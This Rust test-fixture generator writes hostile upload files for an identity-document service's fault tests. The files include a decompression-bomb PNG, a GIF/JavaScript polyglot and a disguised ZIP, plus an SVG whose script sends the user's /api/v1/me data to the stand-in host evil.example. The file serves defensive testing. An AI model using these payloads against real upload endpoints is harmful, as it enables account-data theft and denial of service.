//! Writes the hostile-upload corpus of `tests/fixtures/hostile/` (issue 12), the files the
//! faults suite sends as identity documents. Run once by hand when a file is added:
//! `cargo run -p cis-tests --example hostile_fixtures`; the files are committed.

use std::io::Write;
use std::path::PathBuf;

use cis_tests::images::{self, crc32};

fn main() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("fixtures").join("hostile");
    std::fs::create_dir_all(&dir).unwrap();
    let files: Vec<(&str, Vec<u8>)> = vec![
        ("text-named.png", b"Hello, I am a text file with an image's name.\n".to_vec()),
        ("truncated.png", images::png(64, 64)[..120].to_vec()),
        ("header-50000x50000.png", images::png_declaring(50_000, 50_000)),
        ("bomb-10000x10000.png", bomb(10_000, 10_000)),
        ("polyglot.gif", polyglot_gif()),
        ("drawing.svg", SVG.as_bytes().to_vec()),
        ("archive.jpg", stored_zip("passport.jpg", &images::jpeg(32, 32))),
        ("gps.jpg", with_gps_exif(&images::jpeg(64, 48))),
    ];
    for (name, bytes) in files {
        std::fs::write(dir.join(name), &bytes).unwrap();
        println!("{name}: {} bytes", bytes.len());
    }
}

const SVG: &str = r#"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="alert(document.cookie)">
  <script>fetch('/api/v1/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</script>
  <rect width="200" height="100" fill="white"/>
</svg>
"#;

/// A PNG of `width` × `height` one-bit pixels, all zero: a few kilobytes that would decode
/// to `width * height` bytes.
fn bomb(width: u32, height: u32) -> Vec<u8> {
    let row = (width as usize).div_ceil(8) + 1;
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; row];
    for _ in 0..height {
        z.write_all(&zeros).unwrap();
    }
    let data = z.finish().unwrap();
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&width.to_be_bytes());
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[1, 0, 0, 0, 0]); // 1 bit, greyscale
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    for (kind, body) in [(&b"IHDR"[..], &ihdr[..]), (b"IDAT", &data[..]), (b"IEND", &[][..])] {
        png.extend_from_slice(&(body.len() as u32).to_be_bytes());
        let start = png.len();
        png.extend_from_slice(kind);
        png.extend_from_slice(body);
        let crc = crc32(&png[start..]);
        png.extend_from_slice(&crc.to_be_bytes());
    }
    png
}

/// A GIF whose first bytes are also JavaScript: `GIF89a/*` opens a comment (the logical
/// screen width is `/*`), the image follows, and after the trailer `*/=1;alert(...)`.
fn polyglot_gif() -> Vec<u8> {
    let mut gif = images::gif(8, 8);
    gif[6..8].copy_from_slice(b"/*");
    gif.extend_from_slice(b"*/=1;alert(document.domain);//");
    gif
}

/// A ZIP archive holding one stored file.
fn stored_zip(name: &str, content: &[u8]) -> Vec<u8> {
    let crc = crc32(content);
    let (size, name_len) = (content.len() as u32, name.len() as u16);
    let mut zip = Vec::new();
    zip.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
    zip.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0]); // version, flags, stored, time, date
    zip.extend_from_slice(&crc.to_le_bytes());
    zip.extend_from_slice(&size.to_le_bytes());
    zip.extend_from_slice(&size.to_le_bytes());
    zip.extend_from_slice(&name_len.to_le_bytes());
    zip.extend_from_slice(&0u16.to_le_bytes());
    zip.extend_from_slice(name.as_bytes());
    zip.extend_from_slice(content);
    let central = zip.len() as u32;
    zip.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
    zip.extend_from_slice(&[20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    zip.extend_from_slice(&crc.to_le_bytes());
    zip.extend_from_slice(&size.to_le_bytes());
    zip.extend_from_slice(&size.to_le_bytes());
    zip.extend_from_slice(&name_len.to_le_bytes());
    zip.extend_from_slice(&[0; 12]); // extra, comment, disk, attributes
    zip.extend_from_slice(&0u32.to_le_bytes()); // offset of the local header
    zip.extend_from_slice(name.as_bytes());
    let central_len = zip.len() as u32 - central;
    zip.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    zip.extend_from_slice(&[0, 0, 0, 0, 1, 0, 1, 0]);
    zip.extend_from_slice(&central_len.to_le_bytes());
    zip.extend_from_slice(&central.to_le_bytes());
    zip.extend_from_slice(&0u16.to_le_bytes());
    zip
}

/// The JPEG with an EXIF segment after SOI naming where it was taken (GPS 35°40'52"N
/// 139°46'1"E) and a description `GPS-SECRET-MARKER`, as a phone writes it.
fn with_gps_exif(jpeg: &[u8]) -> Vec<u8> {
    // TIFF, big-endian: IFD0 (ImageDescription, GPSInfo) at 8, then the GPS IFD.
    let description = b"GPS-SECRET-MARKER\0";
    let mut tiff = b"MM\0\x2a\0\0\0\x08".to_vec();
    let ifd0_len = 2 + 2 * 12 + 4;
    let description_at = 8 + ifd0_len;
    let gps_at = description_at + description.len() as u32;
    let gps_len = 2 + 4 * 12 + 4;
    let rationals_at = gps_at + gps_len;
    let entry = |tiff: &mut Vec<u8>, tag: u16, kind: u16, count: u32, value: u32| {
        tiff.extend_from_slice(&tag.to_be_bytes());
        tiff.extend_from_slice(&kind.to_be_bytes());
        tiff.extend_from_slice(&count.to_be_bytes());
        tiff.extend_from_slice(&value.to_be_bytes());
    };
    tiff.extend_from_slice(&2u16.to_be_bytes());
    entry(&mut tiff, 0x010e, 2, description.len() as u32, description_at);
    entry(&mut tiff, 0x8825, 4, 1, gps_at);
    tiff.extend_from_slice(&0u32.to_be_bytes());
    tiff.extend_from_slice(description);
    tiff.extend_from_slice(&4u16.to_be_bytes());
    entry(&mut tiff, 0x0001, 2, 2, u32::from_be_bytes(*b"N\0\0\0"));
    entry(&mut tiff, 0x0002, 5, 3, rationals_at);
    entry(&mut tiff, 0x0003, 2, 2, u32::from_be_bytes(*b"E\0\0\0"));
    entry(&mut tiff, 0x0004, 5, 3, rationals_at + 24);
    tiff.extend_from_slice(&0u32.to_be_bytes());
    for value in [35u32, 40, 52, 139, 46, 1] {
        tiff.extend_from_slice(&value.to_be_bytes());
        tiff.extend_from_slice(&1u32.to_be_bytes());
    }
    let mut app1 = b"Exif\0\0".to_vec();
    app1.extend_from_slice(&tiff);
    let mut out = jpeg[..2].to_vec();
    out.extend_from_slice(&[0xFF, 0xE1]);
    out.extend_from_slice(&((app1.len() + 2) as u16).to_be_bytes());
    out.extend_from_slice(&app1);
    out.extend_from_slice(&jpeg[2..]);
    out
}
